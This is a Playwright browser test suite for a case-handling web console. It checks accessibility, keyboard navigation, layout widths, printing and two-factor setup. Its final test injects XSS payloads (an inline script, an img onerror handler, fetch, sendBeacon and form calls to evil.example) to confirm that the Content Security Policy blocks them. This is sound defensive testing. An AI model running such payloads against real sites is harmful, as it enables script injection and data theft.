"""The console in a real browser: keys, page swaps, colour schemes, axe, print, and attacks shown as text."""

import re
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass
from urllib.parse import urlencode

import pytest
import segno
import uvicorn

from console_world import HOSTILE, PASSWORD, World, world
from stillwatch.cases import handling, leads
from stillwatch.cases.triage import PickedCase
from stillwatch.console import Proposed, inbox, requested_dismissals, second_factor
from stillwatch.terms import Step

pytestmark = pytest.mark.browser
pytest.importorskip("playwright")

from playwright.sync_api import Browser, BrowserContext, Page, expect  # noqa: E402, expect

SCHEMES = ["light", "dark"]
DRAWN_MODULES = """() => {
  const [light, dark] = document.querySelectorAll("svg.qr path")
  const side = dark.ownerSVGElement.viewBox.baseVal.width
  const black = getComputedStyle(dark).stroke, white = getComputedStyle(light).fill
  if (black !== "rgb(0, 0, 0)" || white !== "rgb(255, 255, 255)") return []
  const at = [...Array(side - 8).keys()].map(k => k + 4.5)
  return at.map(y => at.map(x => dark.isPointInStroke(new DOMPoint(x, y))))
}"""


@dataclass
class Served:
    """A console that answers on a port, and the user that the browser is logged in as."""

    world: World
    address: str
    big: str
    hostile: str
    from_lead: str


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    made = world(tmp_path_factory.mktemp("console"))
    big = made.cases["c-7f3a19"]
    hostile = next(c for c in made.cases.values() if "<" in made.store.case(c, accounts=False).title)
    now_us = made.clock[0]
    for text in HOSTILE:
        if text.strip():
            handling.note(made.store, hostile, text, who="anna", now_us=now_us)
    handling.suppress(
        made.store, hostile, owner=HOSTILE[1], until_us=now_us + 86_400_000_000, who="anna", why=HOSTILE[2],
        now_us=now_us,
    )  # fmt: skip
    handling.appeal(made.store, hostile, "\n".join(HOSTILE), who="anna", now_us=now_us)
    accounts = made.store.case(hostile).accounts
    made.gateway.open[7] = Proposed(7, now_us, "c", Step.THROTTLE, HOSTILE[0], HOSTILE[1], accounts, now_us)
    asked = [PickedCase(case, 1) for case in made.cases.values()]
    requested_dismissals.put(
        made.store, "anna", HOSTILE[0], {"do": "close", "verdict": "false"}, asked, now_us
    )
    from_lead = leads.open_case(made.store, "lead-0000", who="anna", why=HOSTILE[3], now_us=now_us).id
    config = uvicorn.Config(made.app, port=0, log_config=None, lifespan="off", ws="none")
    server = uvicorn.Server(config)
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    while not server.started:
        time.sleep(0.02)
    port = server.servers[0].sockets[0].getsockname()[1]
    yield Served(made, f"http://127.0.0.1:{port}", big, hostile, from_lead)
    server.should_exit = True
    thread.join(10)
    made.store.close()


@dataclass
class WatchResult:
    """A page with lists of everything that must not happen on it."""

    page: Page
    outside: list[str]
    complaints: list[str]
    dialogs: list[str]

    def clean(self) -> None:
        assert self.outside == []
        assert self.complaints == []
        assert self.dialogs == []
        assert self.page.evaluate("window.stolen === undefined && window.owned === undefined")


FOCUSED = (
    "document.activeElement.id === 'name'"  # who fills the field before, gets a complaint of the browser
)


def enter(context: BrowserContext, served: Served, name: str = "paul") -> WatchResult:
    """Log in through the form."""
    page = context.new_page()
    watched = WatchResult(page, [], [], [])
    page.on("request", lambda r: None if r.url.startswith(served.address) else watched.outside.append(r.url))
    page.on("console", lambda m: watched.complaints.append(m.text))
    page.on("pageerror", lambda e: watched.complaints.append(str(e)))
    page.on("dialog", lambda d: (watched.dialogs.append(d.message), d.dismiss()))
    page.goto(served.address)
    page.wait_for_function(FOCUSED)
    page.fill("#name", name)
    page.fill("#password", PASSWORD)
    page.click("button.main")
    page.wait_for_selector("header.top")
    page.wait_for_load_state()  # its scripts listen
    return watched


@pytest.fixture(params=SCHEMES)
def inside(browser: Browser, served: Served, request: pytest.FixtureRequest) -> Iterator[WatchResult]:
    context = browser.new_context(color_scheme=request.param, viewport={"width": 1280, "height": 900})
    yield enter(context, served)
    context.close()


def pages(served: Served) -> list[str]:
    bad = f"/case/{served.hostile}"
    account = "/account?" + urlencode({"name": HOSTILE[0]})
    return [
        "/queue?state=all&suppressed=all", bad, f"/case/{served.big}", f"{bad}/accounts", f"{bad}/links",
        f"{bad}/alert", f"/actor/{served.hostile}", account, "/approvals", "/detectors", "/terms", "/audit",
        "/health", "/sql", "/me", "/leads", "/lead/lead-0000", "/lead/lead-0001", f"/case/{served.from_lead}",
        "/nowhere", "/case/case-0000000000",
    ]  # fmt: skip


def unfold(page: Page) -> None:
    page.evaluate("document.querySelectorAll('main details').forEach(d => { d.open = true })")


def look(served: Served, watched: WatchResult, axe: object, expected: int = 200) -> None:
    """Check the open page: no problem found by axe, nothing wider than the window, no script run."""
    page = watched.page
    page.wait_for_load_state()
    unfold(page)
    for target in page.query_selector_all("main bdi, main time")[:60]:
        target.dispatch_event("mouseover")
    found = axe.run(page)  # type: ignore[attr-defined]
    assert found.violations_count == 0, (page.url, found.generate_report())
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth"), page.url


def test_every_page_is_sound_in_both_schemes_with_every_attack_on_it(
    served: Served, inside: WatchResult
) -> None:
    axe = pytest.importorskip("axe_playwright_python.sync_playwright").Axe()
    for path in pages(served):
        inside.page.goto(served.address + path)
        look(served, inside, axe)
        inside.complaints[:] = [c for c in inside.complaints if "404 (Not Found)" not in c]
        inside.clean()


def test_cases_are_picked_with_keys_and_changed_at_once(served: Served, inside: WatchResult) -> None:
    axe = pytest.importorskip("axe_playwright_python.sync_playwright").Axe()
    page = inside.page
    page.goto(f"{served.address}/queue")
    for key in ("j", "x", "j", "x"):
        page.keyboard.press(key)
    assert page.locator("#rows input[name=case]:checked").count() == 2
    unfold(page)
    page.locator("input[data-all=case]").check()
    assert page.locator("#rows input[name=case]:not(:checked)").count() == 0
    page.locator("input[data-all=case]").uncheck()
    page.locator("#rows input[name=case]").nth(0).check()
    page.fill("#triage-why", HOSTILE[0])
    page.click("text=Set due")
    page.wait_for_selector("text=1 of 1 case given a due date")
    look(served, inside, axe)
    inside.clean()


def test_a_view_is_kept_opened_and_deleted(served: Served, inside: WatchResult) -> None:
    axe = pytest.importorskip("axe_playwright_python.sync_playwright").Axe()
    page = inside.page
    page.goto(f"{served.address}/queue")
    page.select_option("#state", "all")
    page.wait_for_selector("#view-name", state="attached")
    unfold(page)
    page.fill("#view-name", HOSTILE[0][:80])
    page.click("form[action$='/queue/views'] button")
    page.wait_for_selector("text=The view is kept.")
    assert page.locator("nav.views a[aria-current]").count() == 1
    look(served, inside, axe)
    page.set_viewport_size({"width": 390, "height": 844})
    look(served, inside, axe)
    page.click("form[action$='/views/delete'] button")
    page.wait_for_selector("text=The view is deleted.")
    inside.clean()


def test_pages_behind_forms_are_sound_too(served: Served, inside: WatchResult) -> None:
    axe = pytest.importorskip("axe_playwright_python.sync_playwright").Axe()
    page = inside.page
    # texts of an account, requested with a reason
    page.goto(f"{served.address}/case/{served.hostile}")
    page.locator("#members tbody th a").nth(4).click()
    page.fill("#why", HOSTILE[0])
    page.click("text=Show its newest texts")
    page.wait_for_selector(".prompt")
    look(served, inside, axe)
    assert page.locator(".prompt").count() == 2 * len(HOSTILE)
    # a dry run, and a pending action
    page.goto(f"{served.address}/case/{served.hostile}")
    page.select_option("#step", "block")
    page.fill("#act-why", HOSTILE[1])
    page.click("aside button.main")
    page.wait_for_selector("text=Nothing is done yet")
    look(served, inside, axe)
    page.click("#act-ask")
    page.wait_for_selector("text=The step waits for a second person.")
    look(served, inside, axe)
    page.locator("aside a[href*='/ask/']").first.click()
    page.wait_for_selector("text=You asked for this")
    look(served, inside, axe)
    # a small action on two selected accounts, taken and undone
    page.goto(f"{served.address}/case/{served.big}")
    page.locator("#members input[type=checkbox]").nth(0).check()
    page.locator("#members input[type=checkbox]").nth(1).check()
    unfold(page)
    page.select_option("#pick-step", "throttle")
    page.fill("#pick-why", "both ask for traces")
    page.click("text=Dry run on the selected accounts")
    page.wait_for_selector("text=Nothing is done yet: throttle for 2 accounts, for 1 hour")
    page.click("text=Take the step now")
    page.wait_for_selector("text=The step is taken.")
    page.locator("aside a[href*='/ask/']").first.click()
    page.wait_for_selector("#h-undo")
    look(served, inside, axe)
    page.fill("#why", "it was a class")
    page.click("text=Undo the step")
    page.wait_for_selector("text=It is taken back.")
    # SQL with a result, the chain verified, an error
    page.goto(f"{served.address}/sql")
    page.fill("#query", "SELECT title, id FROM cases")
    page.click("button.main")
    page.wait_for_selector("#h-answer")
    look(served, inside, axe)
    page.goto(f"{served.address}/audit")
    page.click("text=Verify now")
    page.wait_for_selector("text=Sound:")
    look(served, inside, axe)
    inside.clean()
    page.goto(f"{served.address}/queue?offset=x")
    look(served, inside, axe)
    page.click("text=Log out")
    page.wait_for_selector("#password")
    look(served, inside, axe)


@pytest.mark.parametrize("width", [320, 390, 768])
def test_nothing_is_wider_than_a_small_window(browser: Browser, served: Served, width: int) -> None:
    context = browser.new_context(viewport={"width": width, "height": 844})
    watched = enter(context, served)
    for path in pages(served):
        watched.page.goto(served.address + path)
        unfold(watched.page)
        assert watched.page.evaluate("document.documentElement.scrollWidth") <= width, path
        # no word is broken into single letters, which would fit any width
        tall = "[...document.querySelectorAll('nav a, caption, .who span')].filter(e => e.offsetHeight > 70)"
        assert watched.page.evaluate(f"{tall}.map(e => e.textContent)") == [], path
    context.close()


@pytest.mark.parametrize(("width", "name"), [(390, "ben"), (1440, "pia")])
def test_a_second_factor_and_a_token_are_made_with_keys_alone_at_both_widths(
    browser: Browser, served: Served, width: int, name: str
) -> None:
    axe = pytest.importorskip("axe_playwright_python.sync_playwright").Axe()
    context = browser.new_context(viewport={"width": width, "height": 900})
    watched = enter(context, served, name)
    page = watched.page
    inbox.note(
        served.world.store, served.hostile, f"@{name} {HOSTILE[0]}", who="anna", now_us=int(time.time() * 1e6)
    )
    page.goto(f"{served.address}/queue")
    look(served, watched, axe)
    page.locator("text=1 notice for you").focus()
    page.keyboard.press("Enter")
    page.wait_for_selector("text=mentioned you in a note on")
    look(served, watched, axe)
    page.locator("text=Mark all as read").focus()
    page.keyboard.press("Enter")
    page.wait_for_selector("text=All that was shown is marked as read.")
    page.focus("#factor-password")
    page.keyboard.type(PASSWORD)
    page.keyboard.press("Enter")
    page.wait_for_selector(".secret")
    look(served, watched, axe)
    secret = page.inner_text(".secret").replace(" ", "")
    link = str(page.get_attribute("text=open it there", "href"))
    assert secret in link
    code = segno.make_qr(link, error="l", boost_error=False)
    assert page.evaluate(DRAWN_MODULES) == [[bool(one) for one in row] for row in code.matrix]
    step = int(served.world.clock[0] / 30e6)
    page.focus("#code")
    page.keyboard.type(second_factor.code_at(secret, step))
    page.keyboard.press("Enter")
    page.wait_for_selector("#h-codes")
    look(served, watched, axe)
    assert page.locator("ol code").count() == 10
    page.goto(f"{served.address}/me")
    page.fill("#token-name", "nightly")
    page.focus("#token-password")
    page.keyboard.type(PASSWORD)
    page.keyboard.press("Enter")
    page.wait_for_selector("text=stw_")
    look(served, watched, axe)
    page.goto(f"{served.address}/me")
    look(served, watched, axe)
    page.click("text=Log out")
    page.wait_for_function(FOCUSED)
    page.fill("#name", name)
    page.fill("#password", PASSWORD)
    page.keyboard.press("Enter")
    page.wait_for_selector("#code")
    look(served, watched, axe)
    assert page.evaluate("document.activeElement.id") == "code"
    page.keyboard.type(second_factor.code_at(secret, step + 1))
    page.keyboard.press("Enter")
    page.wait_for_selector("main h1")
    assert page.locator("header.top").count() == 1
    watched.clean()
    context.close()


@pytest.mark.parametrize(("width", "lead"), [(390, "lead-0003"), (1440, "lead-0004")])
def test_leads_and_their_case_are_sound_at_both_widths(
    browser: Browser, served: Served, width: int, lead: str
) -> None:
    axe = pytest.importorskip("axe_playwright_python.sync_playwright").Axe()
    context = browser.new_context(viewport={"width": width, "height": 900})
    watched = enter(context, served, "anna")
    for path in ("/leads", "/lead/lead-0000", "/lead/lead-0001", f"/case/{served.from_lead}"):
        watched.page.goto(served.address + path)
        look(served, watched, axe)
    watched.page.goto(f"{served.address}/lead/{lead}")
    watched.page.fill("#open-why", HOSTILE[0])
    watched.page.click("text=Open a case >> nth=-1")
    watched.page.wait_for_selector("text=No step can be taken in it before a finding names it.")
    look(served, watched, axe)
    watched.clean()
    context.close()


def test_a_key_typed_right_after_the_help_is_closed_counts(browser: Browser, served: Served) -> None:
    context = browser.new_context()
    watched = enter(context, served)
    page = watched.page
    page.goto(f"{served.address}/queue?state=all&suppressed=all")
    # While a dialog closes, its button still has the focus for one frame and receives the key.
    page.evaluate("""() => {
        const help = document.querySelector("#keys");
        help.showModal();
        help.close();
        help.querySelector("button").dispatchEvent(new KeyboardEvent("keydown", { key: "j", bubbles: true }));
    }""")
    assert page.locator("tr.at").count() == 1
    watched.clean()
    context.close()


def test_the_queue_is_worked_without_a_mouse(browser: Browser, served: Served) -> None:
    context = browser.new_context()
    watched = enter(context, served, "anna")
    page = watched.page
    page.goto(f"{served.address}/queue?state=all&suppressed=all")
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.className") == "skip"
    page.keyboard.press("j")
    page.keyboard.press("j")
    page.keyboard.press("k")
    assert page.locator("tr.at").count() == 1
    first = page.locator("table.rows tbody tr").first
    assert "at" in (first.get_attribute("class") or "")
    page.keyboard.press("o")
    page.wait_for_url("**/case/*")
    page.keyboard.press("n")
    assert page.evaluate("document.activeElement.id") == "note"
    page.keyboard.type("just: a qnote jk")  # keys are letters while a person types
    assert page.input_value("#note") == "just: a qnote jk"
    page.keyboard.press("Tab")
    page.keyboard.press("Enter")
    page.wait_for_selector("text=The note is kept.")
    page.wait_for_load_state()
    assert page.locator("#said").inner_text() == "The note is kept."
    page.keyboard.press("a")
    assert page.evaluate("document.activeElement.id") == "step"
    page.evaluate("document.activeElement.blur()")
    page.keyboard.press("?")
    assert page.locator("#keys").is_visible()
    page.keyboard.press("Escape")
    page.wait_for_selector("#keys", state="hidden")
    page.keyboard.press("q")
    page.wait_for_url("**/queue")
    page.keyboard.press("j")
    title = page.locator("tr.at th a").inner_text()
    page.keyboard.press("a")
    page.wait_for_selector("text=The case is yours.")
    assert title
    watched.clean()
    context.close()


def test_filters_and_pages_swap_and_stand_in_the_address(browser: Browser, served: Served) -> None:
    context = browser.new_context()
    watched = enter(context, served)
    page = watched.page
    loads: list[str] = []
    page.on("load", lambda _: loads.append(page.url))
    page.select_option("#state", "closed")
    page.wait_for_selector("text=No case matches.")
    page.wait_for_url("**state=closed**")
    page.select_option("#state", "all")
    page.wait_for_selector("#rows table")
    assert loads == []  # swapped, not loaded
    page.reload()
    assert page.input_value("#state") == "all"
    page.goto(f"{served.address}/case/{served.big}")
    loads.clear()
    first = page.locator("#members tbody th").first.inner_text()
    page.locator("#members a[rel=next]").click()
    page.wait_for_function("t => document.querySelector('#members tbody th').innerText !== t", arg=first)
    page.wait_for_url("**offset=25**")
    assert loads == []
    page.fill("#starts", "acct_04001")
    page.keyboard.press("Enter")
    page.wait_for_selector("text=16 accounts, by name.")
    assert all(n.startswith("acct_04001") for n in page.locator("#members tbody th").all_inner_texts())
    watched.clean()
    context.close()


def test_it_can_be_read_without_scripts(browser: Browser, served: Served) -> None:
    context = browser.new_context(java_script_enabled=False)
    page = context.new_page()
    page.goto(f"{served.address}/case/{served.big}")
    page.fill("#name", "rita")
    page.fill("#password", PASSWORD)
    page.click("button.main")
    page.wait_for_url(f"**/case/{served.big}")  # it continued to the requested page
    assert page.locator("h1").is_visible()
    page.locator("#members a[rel=next]").click()
    page.wait_for_url("**offset=25**")
    assert page.locator("#members tbody tr").count() == 25
    page.goto(f"{served.address}/queue")
    page.select_option("#state", "closed")
    page.get_by_role("button", name="Show").click()
    page.wait_for_url("**state=closed**")
    page.goto(f"{served.address}/case/{served.big}")
    page.locator("summary", has_text="As a table").click()
    assert page.locator("details table").first.is_visible()
    context.close()


def test_times_are_utc_with_the_readers_own_on_hover(browser: Browser, served: Served) -> None:
    context = browser.new_context(timezone_id="Asia/Tokyo", locale="en-GB")
    watched = enter(context, served)
    time_ = watched.page.locator("main time").first
    assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d UTC", time_.get_attribute("title") or "")
    time_.hover()
    expect(time_).to_have_attribute("title", re.compile(r"GMT\+9|JST"))
    context.close()


def test_the_scheme_follows_the_system(browser: Browser, served: Served) -> None:
    shades = {}
    for scheme in SCHEMES:
        context = browser.new_context(color_scheme="dark" if scheme == "dark" else "light")
        watched = enter(context, served)
        shades[scheme] = watched.page.evaluate("getComputedStyle(document.body).backgroundColor")
        context.close()
    assert shades["light"] != shades["dark"]


def test_a_case_is_printed_whole_and_without_controls(browser: Browser, served: Served) -> None:
    context = browser.new_context(color_scheme="dark")
    watched = enter(context, served)
    page = watched.page
    page.goto(f"{served.address}/case/{served.big}")
    page.emulate_media(media="print")
    page.evaluate("dispatchEvent(new Event('beforeprint'))")
    assert page.evaluate("[...document.querySelectorAll('main details')].every(d => d.open)")
    for hidden in ("header nav", "aside", "#members .pages", "footer .twins", "form.filters"):
        assert not page.locator(hidden).first.is_visible(), hidden
    assert page.locator(".printed").is_visible()
    assert page.locator("#h-why").is_visible()
    assert page.evaluate("getComputedStyle(document.body).backgroundColor") == "rgb(255, 255, 255)"
    assert len(page.pdf(format="A4")) > 20_000
    watched.clean()
    context.close()


def test_a_script_that_got_in_would_not_run_and_reach_nobody(browser: Browser, served: Served) -> None:
    context = browser.new_context()
    watched = enter(context, served)
    page = watched.page
    stopped: list[str] = []
    page.on("requestfailed", lambda r: stopped.append(r.url) if r.failure == "csp" else None)
    page.evaluate(
        """() => {
        const script = document.createElement('script');
        script.textContent = 'window.stolen = 1';
        document.body.append(script);
        const box = document.createElement('div');
        const evil = 'https://evil.example/';
        box.innerHTML = `<img src=x onerror="window.stolen = 2"><form action="${evil}"><button id=b></form>` +
            `<a hx-get="${evil}" hx-trigger="load">x</a><link rel=stylesheet href="${evil}c.css">`;
        document.body.append(box);
        document.querySelector('#b').click();
        new Image().src = 'https://evil.example/i';
        fetch('https://evil.example/f').catch(() => {});
        navigator.sendBeacon('https://evil.example/b', 'x');
        }"""
    )
    tried = sorted(
        f"https://evil.example/{name}" for name in ("c.css", "i")
    )  # a form, fetch and beacon are stopped before
    for _ in range(600):
        if sorted(stopped) == tried:
            break
        page.wait_for_timeout(100)
    page.wait_for_timeout(300)  # for what should not come
    assert page.evaluate("window.stolen === undefined")
    assert page.url.startswith(served.address)
    assert sorted(stopped) == sorted(watched.outside) == tried  # reported by the browser, and not sent
    assert any("Content Security Policy" in c for c in watched.complaints)
    context.close()
